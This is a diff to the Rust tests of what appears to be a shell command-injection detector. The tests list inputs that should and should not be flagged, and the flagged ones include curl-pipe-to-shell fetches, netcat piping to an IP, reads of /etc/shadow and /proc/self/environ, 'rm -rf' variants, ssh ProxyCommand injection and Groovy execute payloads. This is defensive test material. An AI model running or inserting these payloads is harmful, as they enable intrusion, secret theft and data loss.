@@ -2676,7 +2676,6 @@ fn prose_naming_commands_and_paths() {
         "then `ping attacker`",
         "try `sleep 5`",
         "try `cat /etc/passwd`",
-        "x `pip install evil`",
         "x `shutdown now`",
         "; cat /etc/passwd in /tmp",
     ] {
@@ -3129,7 +3128,9 @@ fn harmless_whole_developer_commands() {
     for v in [
         "cat /etc/passwd",
         "rm -rf /",
-        "rm -rf node_modules",
+        "rm -rf ~",
+        "rm -rf .",
+        "rm -rf *",
         // a backslash skips the shell's aliases
         "\\ls",
         "\\pwd",
@@ -3367,5 +3368,131 @@ fn noun_after_ampersand() {
         "fork & whoami",
     ] {
         assert!(hit(v), "{v}");
+    }
+}
+
+#[test]
+fn harmless_lists_and_code_spans() {
+    // Ordinary program lines joined by `&&`/`||`, piped into a text filter, after `sudo`,
+    // or quoted as Markdown code spans in prose.
+    for v in [
+        "git log --oneline | head -5",
+        "rm -rf node_modules && npm install",
+        "rm -rf node_modules",
+        "git status && git diff",
+        "ls | wc -l",
+        "ls -la | grep foo",
+        "grep -rn TODO src | wc -l",
+        "make && make install",
+        "sudo apt-get update",
+        "sudo systemctl restart nginx",
+        "sudo make install",
+        "history | grep ssh",
+        "bash ./build.sh",
+        "python ./app.py",
+        "/usr/bin/env python3",
+        "use `git pull --rebase`",
+        "my script does `tar -xzf file.tar.gz`",
+        "The command `ls | wc -l` counts files; it's handy!",
+        "try `pip install requests` then `python app.py`",
+        "`git pull`",
+        "`python app.py`",
+        // a package installed by name: the same line for any name, as a whole value too
+        "x `pip install evil`",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+    for v in [
+        "ls | sh",
+        "git log | bash",
+        "ls && id",
+        "ls & id",
+        "ls | nc 1.2.3.4 80",
+        "127.0.0.1 && ping attacker.example",
+        "ls && ping -c 5 x.example",
+        "ls; whoami",
+        "sudo bash",
+        "sudo -s",
+        "sudo rm -rf /",
+        "sudo cat /etc/shadow",
+        "ls | head /etc/passwd",
+        "ls && curl http://x.example/a | sh",
+        "use `curl http://x.example/a | sh`",
+        "try `id`",
+        "`iptables -F`",
+        "sudo iptables -F",
+        "`echo RNDSTR``expr 5 + 5`",
+        "x`ls`",
+        "$(`ls`)",
+        "<(`ls`)",
+        "`whoami`",
+        "ps aux | grep node",
+        "cat /etc/os-release",
+        "bash ./build.sh -c id",
+        "bash x.sh; id",
+        "sh ./.hidden.sh",
+        "python ../app.py",
+        "/usr/bin/env bash",
+    ] {
+        assert!(hit(v), "{v:?}");
+    }
+}
+
+#[test]
+fn options_whose_value_runs_a_command() {
+    for v in [
+        "-e id",
+        "-e sh",
+        "-e /bin/sh",
+        "-x whoami",
+        "-W exec=id",
+        "--checkpoint-action exec:sh",
+        "-c ':!id'",
+        "-c ':!id' -c ':q'",
+        "-K /dev/stdin",
+        "--config=/dev/fd/0",
+        "-u file:///etc/passwd",
+        "--url=file:///proc/self/environ",
+        "ssh://-oProxyCommand=touch${IFS}pwned/x",
+        "git+ssh://-oProxyCommand=id/x",
+    ] {
+        assert!(hit(v), "{v:?}");
+    }
+    for v in [
+        "-e utf-8",
+        "-e ssh",
+        "-e id card",
+        "-u admin",
+        "-x 5",
+        "-m '!important'",
+        "-K ~/.curlrc",
+        "-u https://example.com/file",
+        "--url=file:///home/me/page.html",
+        "ssh://git@github.com/org/repo.git",
+        "--mode exec",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+}
+
+#[test]
+fn groovy_string_execute() {
+    for v in [
+        "#{'id'.execute()}",
+        "\"id\".execute().text",
+        "['sh','-c','id'].execute()",
+        "${'id'.execute().text}",
+        "'curl http://x.example/a'.execute()",
+    ] {
+        assert!(hit(v), "{v:?}");
+    }
+    for v in [
+        "\"query\".execute()",
+        "stmt.execute()",
+        "cursor.execute('SELECT 1')",
+        "['a','b'].execute()",
+        "'hello world'.execute()",
+    ] {
+        assert!(!hit(v), "{v:?}");
     }
 }
